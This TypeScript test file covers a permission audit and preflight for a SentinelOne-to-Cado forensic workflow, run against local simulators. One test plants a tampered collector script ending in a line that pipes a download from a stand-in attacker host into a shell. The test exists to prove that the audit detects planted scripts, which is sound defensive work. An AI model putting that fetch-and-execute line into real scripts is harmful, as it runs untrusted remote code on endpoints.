/**
 * The permission audit (core and checks) and the workflow preflight, against the S1 and Cado simulators: real HTTP
 * on 127.0.0.1, a manual clock shared by the simulators, the clients' retry sleeps and the audit, so nothing waits.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { type AuditDeps, runAudit } from '../../lambdas/audit-permissions/core';
import { formatReport } from '../../lambdas/audit-permissions/format';
import { checkPermissions } from '../../lambdas/check-permissions/core';
import { type CollectorScript, loadCollectors } from '../../lambdas/collectors';
import { evaluateRole, REQUIRED_S1_PERMISSIONS } from '../../lambdas/shared/audit/checks';
import type { AuditCheck, AuditReport } from '../../lambdas/shared/audit/report';
import { type CadoClient, createCadoClient } from '../../lambdas/shared/cado';
import { PreflightFailedError, S1TransientError } from '../../lambdas/shared/errors';
import { clearRegisteredSecrets } from '../../lambdas/shared/redact';
import type { InvestigationRequest } from '../../lambdas/shared/schemas';
import { staticCredential } from '../../lambdas/shared/secrets';
import { createS1Client, type S1Client, type S1Role } from '../../lambdas/shared/sentinelone';
import { type CadoSimulator, startCadoSimulator } from '../../local/cado-simulator';
import {
  ALL_PERMISSIONS,
  createManualClock,
  type DemoTenant,
  type ManualClock,
  type Permission,
  type S1Simulator,
  seedDemoTenant,
  startS1Simulator,
} from '../../local/s1-simulator';

const S1_TOKEN = 'S1tok-audit-0123456789abcdefABCDEF-never-print';
const CADO_KEY = 'cado-audit-key-0123456789abcdef-never-print';
const DAY = 86_400_000;

/** The S1 simulator's permission strings for each required permission, by the setup guide's name. */
const SIM_PERMISSION: Record<string, Permission> = {
  'RemoteOps View': 'Remote Script Orchestration.view',
  'View Output': 'Remote Script Orchestration.viewOutput',
  Upload: 'Remote Script Orchestration.upload',
  'Run Data Collection Script': 'Remote Script Orchestration.runDataCollectionScript',
  'Run Artifact Collection Script': 'Remote Script Orchestration.runArtifactCollectionScript',
  'Run Action Script': 'Remote Script Orchestration.runActionScript',
  Delete: 'Remote Script Orchestration.delete',
  'Cancel Data Collection Script': 'Remote Script Orchestration.cancelDataCollectionScript',
  'Cancel Artifact Collection Script': 'Remote Script Orchestration.cancelArtifactCollectionScript',
  'Cancel Action Script': 'Remote Script Orchestration.cancelActionScript',
  'Task Management View': 'Task Management.view',
};

let clock: ManualClock;
let s1Sim: S1Simulator;
let cadoSim: CadoSimulator;
let tenant: DemoTenant;
let collectors: CollectorScript[];
const openClients: CadoClient[] = [];

function s1Client(token = S1_TOKEN): S1Client {
  return createS1Client({
    consoleUrl: s1Sim.url,
    credentials: staticCredential(token, 'ApiToken'),
    hostPolicy: { allowLoopback: true },
    retry: { maxAttempts: 2, maxElapsedMs: 60_000, baseDelayMs: 10, maxDelayMs: 10 },
    sleep: async (ms) => {
      clock.advance(ms);
    },
  });
}

function cadoClient(key = CADO_KEY): CadoClient {
  const client = createCadoClient({
    baseUrl: cadoSim.url,
    credentials: staticCredential(key, 'Bearer'),
    allowLoopback: true,
    retry: { maxAttempts: 2, maxElapsedMs: 60_000, baseDelayMs: 10, maxDelayMs: 10 },
    sleep: async (ms) => {
      clock.advance(ms);
    },
    clock: clock.now,
  });
  openClients.push(client);
  return client;
}

/** Puts the deployed collectors into the S1 library, as Ensure Scripts would have. */
function uploadCollectors(scope: { scopeLevel?: 'global' | 'account' | 'site'; scopeId?: string } = {}) {
  for (const collector of collectors) {
    s1Sim.addScript({
      scriptName: collector.libraryName,
      scriptType: 'artifactCollection',
      osTypes: [collector.osType],
      content: collector.content,
      fileName: collector.fileName,
      ...scope,
    });
  }
}

function deps(overrides: Partial<AuditDeps> & { token?: string; cadoKey?: string } = {}): AuditDeps {
  const token = overrides.token ?? S1_TOKEN;
  return {
    s1: { client: s1Client(token), token: async () => token, siteIds: [tenant.sites.rso.id] },
    cado: { client: cadoClient(overrides.cadoKey ?? CADO_KEY) },
    collectors: () => collectors,
    warningDays: 14,
    clock: clock.now,
    ...overrides,
  };
}

function checkOf(report: AuditReport, id: string): AuditCheck {
  const found = report.checks.find((c) => c.id === id);
  if (!found) throw new Error(`no check ${id} in ${report.checks.map((c) => c.id).join(', ')}`);
  return found;
}

function statuses(report: AuditReport): Record<string, string> {
  return Object.fromEntries(report.checks.map((c) => [c.id, c.status]));
}

beforeEach(async () => {
  clock = createManualClock();
  s1Sim = await startS1Simulator({ clock: clock.now, rateLimits: false });
  tenant = seedDemoTenant(s1Sim, { token: S1_TOKEN });
  cadoSim = await startCadoSimulator({ clock: clock.now, keys: [{ key: CADO_KEY, role: 'Lead Analyst' }] });
  collectors = loadCollectors();
  uploadCollectors();
});

afterEach(async () => {
  await Promise.all(openClients.splice(0).map((c) => c.close()));
  await Promise.all([s1Sim.close(), cadoSim.close()]);
  clearRegisteredSecrets();
});

describe('runAudit: a fully permitted service user and key', () => {
  it('passes every check and says why', async () => {
    const report = await runAudit(deps());
    expect(report.schema).toBe('s1cado/audit@1');
    expect(statuses(report)).toEqual({
      's1-token-valid': 'pass',
      's1-user-scope': 'pass',
      's1-role-permissions': 'pass',
      's1-token-expiry': 'pass',
      's1-sites-rso': 'pass',
      's1-collector-scripts': 'pass',
      'cado-key-valid': 'pass',
      'cado-permissions': 'pass',
      'cado-platform-health': 'pass',
    });
    expect(report.status).toBe('pass');
    expect(report.counts).toEqual({ pass: 9, warn: 0, fail: 0, unknown: 0 });
    expect(checkOf(report, 's1-token-valid').reason).toContain('s1cado-service');
    expect(checkOf(report, 's1-user-scope').reason).toContain('Account scope');
    expect(checkOf(report, 's1-role-permissions').reason).toContain('all 11 permissions');
    // Tokens live 180 days in the simulator.
    expect(checkOf(report, 's1-token-expiry').reason).toMatch(/expires on 2025-07-14 10:00 UTC, in 180 days/);
    expect(checkOf(report, 'cado-key-valid').reason).toContain('Lead Analyst');
    expect(report.targets).toEqual({ s1: `${s1Sim.url}/web/api/v2.1`, cado: cadoSim.url });
    expect(Date.parse(report.finishedAt)).toBeGreaterThanOrEqual(Date.parse(report.startedAt));
  });

  it('also passes for a Global (tenant) service user whose role page is called "RemoteOps"', async () => {
    s1Sim.config.rsoPageName = 'RemoteOps';
    const global = s1Sim.addUser({ fullName: 'global-svc', scope: 'tenant', permissions: ALL_PERMISSIONS });
    const report = await runAudit(deps({ token: global.token }));
    expect(checkOf(report, 's1-user-scope')).toMatchObject({
      status: 'pass',
      reason: expect.stringContaining('Global'),
    });
    expect(checkOf(report, 's1-role-permissions').status).toBe('pass');
  });
});

describe('runAudit: S1 role permissions', () => {
  it.each(REQUIRED_S1_PERMISSIONS.map((p) => p.name))('reports a missing "%s" by name', async (name) => {
    const permission = SIM_PERMISSION[name];
    if (!permission) throw new Error(`no simulator permission for ${name}`);
    s1Sim.revoke(tenant.serviceUser.user.id, permission);
    const report = await runAudit(deps());
    const permissions = checkOf(report, 's1-role-permissions');
    expect(permissions.status).toBe('fail');
    expect(permissions.details?.missing).toEqual([name]);
    expect(Object.keys(permissions.details?.neededFor as object)).toEqual([name]);
    expect(permissions.reason).toContain(`lacks 1 of the 11 permissions the workflow needs: ${name}.`);
    expect(permissions.fix).toContain(`"${tenant.serviceUser.role.name}"`);
    expect(report.status).toBe('fail');
  });

  it('names every missing permission of a role that lacks several, grouped by console page in the fix', async () => {
    s1Sim.revoke(tenant.serviceUser.user.id, 'Remote Script Orchestration.upload', 'Task Management.view');
    const permissions = checkOf(await runAudit(deps()), 's1-role-permissions');
    expect(permissions.details?.missing).toEqual(['Upload', 'Task Management View']);
    expect(permissions.fix).toContain('Remote Script Orchestration → Upload; Task Management → View');
  });

  it('is unknown, not failed, when the role cannot be read (403), and says how to check by hand', async () => {
    s1Sim.revoke(tenant.serviceUser.user.id, 'Roles.view');
    const report = await runAudit(deps());
    const permissions = checkOf(report, 's1-role-permissions');
    expect(permissions.status).toBe('unknown');
    expect(permissions.reason).toContain('403');
    expect(permissions.fix).toContain('Roles view');
    expect(permissions.fix).toContain('Run Artifact Collection Script');
    expect(report.status).toBe('unknown');
    expect(report.counts.fail).toBe(0);
  });
});

describe('evaluateRole: tolerant matching of pages and permissions', () => {
  const page = (
    name: string,
    identifier: string | null,
    perms: [string | null, string | null, boolean][],
  ) => ({
    name,
    identifier,
    permissions: perms.map(([id, title, value]) => ({ identifier: id, title, value })),
  });

  it('matches titles, qualified identifiers and plural spellings', () => {
    const role: S1Role = {
      pages: [
        page('Remote Script Orchestration', null, [
          [null, 'View', true],
          ['remoteScriptOrchestration.viewOutput', null, true],
          ['upload', null, true],
          [null, 'Run Data Collection Scripts', true],
          ['runArtifactCollectionScript', 'Run Artifact Collection Script', true],
          ['runActionScript', null, true],
          [null, 'Delete', false],
          ['cancelDataCollectionScript', null, true],
          ['cancelArtifactCollectionScript', null, true],
          ['cancelActionScript', null, true],
        ]),
        page('Task Management', 'taskManagement', [['view', 'View', true]]),
      ],
    };
    const grants = evaluateRole(role);
    expect([...grants].filter(([, g]) => g !== 'granted')).toEqual([['Delete', 'denied']]);
  });

  it('does not let a neighbouring page stand in for Remote Script Orchestration', () => {
    const role: S1Role = {
      pages: [
        page('RemoteOps Forensics', 'remoteOpsForensics', [['view', 'View', true]]),
        page('RemoteOps', 'remoteOps', [['view', 'View', false]]),
        page('Task Management', null, [['view', 'View', true]]),
      ],
    };
    const grants = evaluateRole(role);
    expect(grants.get('RemoteOps View')).toBe('denied');
    expect(grants.get('Upload')).toBe('notFound');
    expect(grants.get('Task Management View')).toBe('granted');
  });
});

describe('runAudit: scope, token expiry, sites, scripts', () => {
  it('fails a site-scoped service user, naming the site', async () => {
    const siteUser = s1Sim.addUser({
      fullName: 'site-svc',
      scope: 'site',
      scopeId: tenant.sites.rso.id,
      permissions: ALL_PERMISSIONS,
    });
    const report = await runAudit(deps({ token: siteUser.token }));
    const scope = checkOf(report, 's1-user-scope');
    expect(scope.status).toBe('fail');
    expect(scope.reason).toContain('scoped to a site (Production)');
    expect(scope.fix).toContain('Account (or Global) scope');
    expect(checkOf(report, 's1-role-permissions').status).toBe('pass');
  });

  it('treats a 403 on GET /user as a valid token whose scope and role are unknown', async () => {
    s1Sim.faults.respond(403, { match: { path: '/user' } });
    const report = await runAudit(deps());
    expect(statuses(report)).toMatchObject({
      's1-token-valid': 'pass',
      's1-user-scope': 'unknown',
      's1-role-permissions': 'unknown',
      's1-token-expiry': 'pass',
      's1-sites-rso': 'pass',
    });
    expect(checkOf(report, 's1-role-permissions').fix).toContain('Task Management → View');
  });

  it('warns about a token that expires in 3 days, with the date', async () => {
    s1Sim.expireToken(S1_TOKEN, clock.now() + 3 * DAY);
    const report = await runAudit(deps());
    const expiry = checkOf(report, 's1-token-expiry');
    expect(expiry.status).toBe('warn');
    expect(expiry.reason).toBe(
      'The API token expires on 2025-01-18 10:00 UTC, in 3 days (the audit warns 14 days ahead).',
    );
    expect(expiry.details).toMatchObject({ daysLeft: 3, warningDays: 14 });
    expect(report.status).toBe('warn');
  });

  it('fails an expired token, and does not pretend to know what it may do', async () => {
    s1Sim.expireToken(S1_TOKEN, clock.now() - 1);
    const report = await runAudit(deps());
    expect(statuses(report)).toMatchObject({
      's1-token-valid': 'fail',
      's1-token-expiry': 'fail',
      's1-user-scope': 'unknown',
      's1-role-permissions': 'unknown',
      's1-sites-rso': 'unknown',
      's1-collector-scripts': 'unknown',
      // Cado is judged on its own.
      'cado-key-valid': 'pass',
    });
    expect(checkOf(report, 's1-token-valid').reason).toContain('rejected the API token (401)');
    expect(checkOf(report, 's1-token-expiry').fix).toContain('Generate a new API token');
    // After a 401 on /user, only the token-details call is still made.
    const routes = s1Sim.requests.map((r) => r.route);
    expect(routes).not.toContain('/sites');
    expect(routes).not.toContain('/remote-scripts');
  });

  it('fails when S1 reports an expiry date in the past, and falls back to /user when token details are unavailable', async () => {
    s1Sim.faults.respond(404, { match: { path: '/users/api-token-details' } });
    const report = await runAudit(deps({ clock: () => clock.now() + 200 * DAY }));
    const expiry = checkOf(report, 's1-token-expiry');
    expect(expiry.status).toBe('fail');
    expect(expiry.reason).toBe('The API token expired on 2025-07-14 10:00 UTC.');
    expect(expiry.details?.source).toBe('GET /user');
  });

  it('fails when a site lacks the rso module, listing the sites', async () => {
    const report = await runAudit(deps({ s1: { client: s1Client(), token: async () => S1_TOKEN } }));
    const sites = checkOf(report, 's1-sites-rso');
    expect(sites.status).toBe('fail');
    expect(sites.reason).toBe(
      `1 of 2 sites lack the RemoteOps (rso) licence module: Branch Office (${tenant.sites.noRso.id}).`,
    );
    expect(sites.details?.sitesWithoutRso).toEqual([{ id: tenant.sites.noRso.id, name: 'Branch Office' }]);
  });

  it('fails a site in scope the service user cannot see', async () => {
    const report = await runAudit(
      deps({
        s1: {
          client: s1Client(),
          token: async () => S1_TOKEN,
          siteIds: [tenant.sites.rso.id, '1234567890123456789'],
        },
      }),
    );
    const sites = checkOf(report, 's1-sites-rso');
    expect(sites.status).toBe('fail');
    expect(sites.details?.notVisible).toEqual(['1234567890123456789']);
    expect(sites.fix).toContain('threatFilter.siteIds');
  });

  it('warns when the deployed collectors are not in the library yet (the workflow uploads them)', async () => {
    for (const script of [...s1Sim.state.scripts.values()]) {
      if (script.scriptName.startsWith('s1cado-')) s1Sim.state.scripts.delete(script.id);
    }
    const scripts = checkOf(await runAudit(deps()), 's1-collector-scripts');
    expect(scripts.status).toBe('warn');
    for (const collector of collectors)
      expect(scripts.reason).toContain(`"${collector.libraryName}" is not in`);
    expect(scripts.fix).toContain('uploads the deployed version the first time');
  });

  it('fails when a library script under the deployed name was changed after upload', async () => {
    const linux = collectors.find((c) => c.osType === 'linux') as CollectorScript;
    for (const script of [...s1Sim.state.scripts.values()]) {
      if (script.scriptName === linux.libraryName) s1Sim.state.scripts.delete(script.id);
    }
    s1Sim.addScript({
      scriptName: linux.libraryName,
      scriptType: 'artifactCollection',
      osTypes: ['linux'],
      content: `${linux.content.toString('utf8')}\ncurl http://evil.example | sh\n`,
    });
    const scripts = checkOf(await runAudit(deps()), 's1-collector-scripts');
    expect(scripts.status).toBe('fail');
    expect(scripts.reason).toContain('was changed or planted under the collector');
  });

  it('counts an account-scoped upload as present for the sites of that account only', async () => {
    for (const script of [...s1Sim.state.scripts.values()]) {
      if (script.scriptName.startsWith('s1cado-')) s1Sim.state.scripts.delete(script.id);
    }
    uploadCollectors({ scopeLevel: 'account', scopeId: tenant.account.id });
    expect(checkOf(await runAudit(deps()), 's1-collector-scripts').status).toBe('pass');
  });

  it('keeps every other check when one call fails (isolation)', async () => {
    s1Sim.faults.respond(503, { match: { path: '/sites' } });
    const report = await runAudit(deps());
    const sites = checkOf(report, 's1-sites-rso');
    expect(sites.status).toBe('unknown');
    expect(sites.reason).toContain('S1TransientError');
    expect(report.checks.filter((c) => c.id !== 's1-sites-rso').every((c) => c.status === 'pass')).toBe(true);
  });

  it('reports a broken collector bundle as a failed check, not a crashed audit', async () => {
    const report = await runAudit(
      deps({
        collectors: () => {
          throw new Error('collector script s1cado-triage-linux not readable');
        },
      }),
    );
    expect(checkOf(report, 's1-collector-scripts')).toMatchObject({ status: 'fail' });
    expect(checkOf(report, 's1-role-permissions').status).toBe('pass');
  });
});

describe('runAudit: Cado', () => {
  it('fails an invalid key and leaves its dependants unknown', async () => {
    const report = await runAudit(deps({ cadoKey: 'cado-not-a-real-key-0123456789' }));
    expect(statuses(report)).toMatchObject({
      'cado-key-valid': 'fail',
      'cado-permissions': 'unknown',
      'cado-platform-health': 'unknown',
      's1-token-valid': 'pass',
    });
    expect(checkOf(report, 'cado-key-valid').reason).toContain('rejected the API key (401)');
    expect(checkOf(report, 'cado-key-valid').fix).toContain('Lead Analyst');
  });

  it('fails an Analyst key for the per-threat hand-off, naming what it may not do', async () => {
    cadoSim.addKey({ key: 'cado-analyst-key-0123456789abcdef', role: 'Analyst' });
    const report = await runAudit(deps({ cadoKey: 'cado-analyst-key-0123456789abcdef' }));
    const permissions = checkOf(report, 'cado-permissions');
    expect(permissions.status).toBe('fail');
    expect(permissions.reason).toBe(
      "The key's role Analyst may not: projects_create (to create the investigation project).",
    );
    expect(permissions.details?.missing).toEqual(['projects_create']);
  });

  it('accepts an Analyst key when the hand-off imports into a fixed project', async () => {
    cadoSim.addKey({ key: 'cado-analyst-key-0123456789abcdef', role: 'Analyst' });
    const report = await runAudit(
      deps({ cado: { client: cadoClient('cado-analyst-key-0123456789abcdef'), purpose: 'import' } }),
    );
    expect(checkOf(report, 'cado-permissions').status).toBe('pass');
  });

  it('fails an unhealthy platform', async () => {
    cadoSim.setHealth({ status: 'upgrading', status_message: 'Upgrading to 2.330.0', is_installing: true });
    const health = checkOf(await runAudit(deps()), 'cado-platform-health');
    expect(health.status).toBe('fail');
    expect(health.reason).toBe('Cado reports "upgrading" (Upgrading to 2.330.0), not running.');
  });

  it('skips a service that is not configured', async () => {
    const report = await runAudit({ ...deps(), cado: undefined });
    expect(report.checks.map((c) => c.id).filter((id) => id.startsWith('cado-'))).toEqual([]);
    expect(report.targets.cado).toBeUndefined();
  });
});

describe('secrets', () => {
  it('never puts a token or key into the report, its text form or the logs', async () => {
    const written: string[] = [];
    const capture = (chunk: unknown) => {
      written.push(String(chunk));
      return true;
    };
    const out = vi.spyOn(process.stdout, 'write').mockImplementation(capture);
    const err = vi.spyOn(process.stderr, 'write').mockImplementation(capture);
    try {
      // Failures of every kind, so error texts end up in reasons.
      s1Sim.revoke(tenant.serviceUser.user.id, 'Roles.view');
      s1Sim.faults.respond(503, { match: { path: '/sites' } });
      const healthy = await runAudit(deps({ cadoKey: 'cado-not-a-real-key-0123456789' }));
      s1Sim.expireToken(S1_TOKEN, clock.now() - 1);
      const expired = await runAudit(deps());
      for (const report of [healthy, expired]) {
        const text = `${JSON.stringify(report)}\n${formatReport(report)}`;
        expect(text).not.toContain(S1_TOKEN);
        expect(text).not.toContain(CADO_KEY);
        expect(text).not.toContain('cado-not-a-real-key-0123456789');
      }
    } finally {
      out.mockRestore();
      err.mockRestore();
    }
    const logs = written.join('');
    expect(logs).not.toContain(S1_TOKEN);
    expect(logs).not.toContain('cado-not-a-real-key-0123456789');
  });
});

describe('formatReport', () => {
  it('prints one row per check with the fix under every check that did not pass', async () => {
    s1Sim.revoke(tenant.serviceUser.user.id, 'Remote Script Orchestration.upload');
    const text = formatReport(await runAudit(deps()));
    expect(text.split('\n')[0]).toMatch(
      /^Permission audit 2025-01-15T10:00:00.000Z {2}FAIL: 8 pass, 0 warn, 1 fail, 0 unknown$/,
    );
    expect(text).toMatch(/^FAIL {4}S1 role permissions {17}The role/m);
    expect(text).toMatch(/^PASS {4}Cado platform health/m);
    expect(text).toContain('Fix: In the S1 console');
    expect(text.match(/Fix:/g)).toHaveLength(1);
    expect(Math.max(...text.split('\n').map((line) => line.length))).toBeLessThanOrEqual(120);
  });
});

describe('checkPermissions (workflow preflight)', () => {
  const execution = { name: 'manual-20250115-abc' };
  function request(...agents: { id: string }[]): InvestigationRequest {
    return { input: { agentIds: agents.map((a) => a.id), requestedBy: 'test' }, execution };
  }
  /** The record Resolve Targets gets of a seeded agent on the Production site: only the fields it decides on. */
  const recordOf = (agent: DemoTenant['agents']['linux']) => ({
    id: agent.id,
    uuid: agent.uuid,
    computerName: agent.computerName,
    osType: agent.osType,
    osName: agent.osName,
    siteId: tenant.sites.rso.id,
    siteName: 'Production',
    accountId: tenant.account.id,
    accountName: 'Acme Corp',
    groupId: agent.groupId,
    isDecommissioned: agent.isDecommissioned,
    isUninstalled: agent.isUninstalled,
  });

  const preflight = (token = S1_TOKEN) => ({
    s1: s1Client(token),
    token: async () => token,
    clock: clock.now,
  });

  it('passes the event on with the user scope, no rejections and the agents’ records when every agent is on a RemoteOps site', async () => {
    const event = request(tenant.agents.linux, tenant.agents.windows);
    const before = s1Sim.requests.length;
    const out = await checkPermissions(event, preflight());
    expect(out).toEqual({
      ...event,
      preflight: { s1UserScope: 'account', rejected: [], agents: expect.any(Array) },
    });
    // In S1's order, which need not be the request's.
    expect(out.preflight.agents).toHaveLength(2);
    expect(out.preflight.agents).toEqual(
      expect.arrayContaining([recordOf(tenant.agents.linux), recordOf(tenant.agents.windows)]),
    );
    const agentReads = s1Sim.requests.slice(before).filter((r) => r.route === '/agents');
    expect(agentReads).toHaveLength(1);
  });

  it('passes on only the records of agents S1 knows and whose site has RemoteOps', async () => {
    const unknown = { id: '1999999999999999999' };
    const { decommissioned, noRso } = tenant.agents;
    const out = await checkPermissions(request(decommissioned, unknown, noRso), preflight());
    expect(out.preflight.agents.map((a) => a.id)).toEqual([decommissioned.id]);
    expect(out.preflight.agents[0]).toMatchObject({ isDecommissioned: true });
    expect(out.preflight.rejected.map((r) => r.agentId)).toEqual([noRso.id]);
  });

  it('throws when the agents cannot be read: nothing could be targeted', async () => {
    s1Sim.revoke(tenant.serviceUser.user.id, 'Endpoints.view');
    await expect(checkPermissions(request(tenant.agents.linux), preflight())).rejects.toMatchObject({
      name: 'S1ForbiddenError',
    });
  });

  it('finds the agents on a site without RemoteOps, with the audit’s reason and fix', async () => {
    const out = await checkPermissions(request(tenant.agents.linux, tenant.agents.noRso), preflight());
    expect(out.preflight.rejected).toEqual([
      {
        agentId: tenant.agents.noRso.id,
        computerName: 'BRANCH-FS01',
        reason: expect.stringContaining(
          `the site Branch Office (${tenant.sites.noRso.id}) lacks the RemoteOps (rso) licence module. Enable Remote Script Orchestration`,
        ),
      },
    ]);
  });

  it('refuses an invalid request before anything reaches S1', async () => {
    const before = s1Sim.requests.length;
    await expect(checkPermissions({ input: { agentIds: [] }, execution }, preflight())).rejects.toMatchObject(
      {
        name: 'InputValidationError',
        message: expect.stringContaining('agentIds: name at least one agent id'),
      },
    );
    expect(s1Sim.requests.length).toBe(before);
  });

  it('fails fast on an expired token with the audit’s wording', async () => {
    s1Sim.expireToken(S1_TOKEN, clock.now() - 1);
    const error = await checkPermissions(request(tenant.agents.linux), preflight()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PreflightFailedError);
    expect((error as Error).name).toBe('PreflightFailedError');
    expect((error as Error).message).toBe(
      'S1 API token accepted: SentinelOne rejected the API token (401): it has expired, was revoked, or does not ' +
        'belong to this console. Fix: Generate a new API token for the service user in the S1 console (Settings → ' +
        'Users → Service Users), store it as {"apiToken": "<token>"} in the S1 secret, and run the audit again. The ' +
        'workflow re-reads the secret, so no redeploy is needed.',
    );
    expect((error as Error).message).not.toContain(S1_TOKEN);
  });

  it('fails when S1 says the token has expired even though it still answers', async () => {
    const later = () => clock.now() + 181 * DAY;
    s1Sim.faults.add({
      match: { path: '/users/api-token-details' },
      action: { type: 'status', status: 200, body: { data: { expiresAt: '2025-01-16T00:00:00Z' } } },
    });
    const error = await checkPermissions(request(tenant.agents.linux), {
      ...preflight(),
      clock: later,
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PreflightFailedError);
    expect((error as Error).message).toContain(
      'S1 API token expiry: The API token expired on 2025-01-16 00:00 UTC.',
    );
  });

  it('throws transient S1 errors as they are, for the state’s Retry', async () => {
    s1Sim.faults.respond(503, { match: { path: '/user' } });
    await expect(checkPermissions(request(tenant.agents.linux), preflight())).rejects.toBeInstanceOf(
      S1TransientError,
    );
  });

  it('lets targets through when the sites cannot be read (no Sites view)', async () => {
    s1Sim.revoke(tenant.serviceUser.user.id, 'Sites.view');
    const event = request(tenant.agents.linux, tenant.agents.noRso);
    expect((await checkPermissions(event, preflight())).preflight).toEqual({
      s1UserScope: 'account',
      rejected: [],
      agents: expect.arrayContaining([
        recordOf(tenant.agents.linux),
        expect.objectContaining({ id: tenant.agents.noRso.id }),
      ]),
    });
  });
});
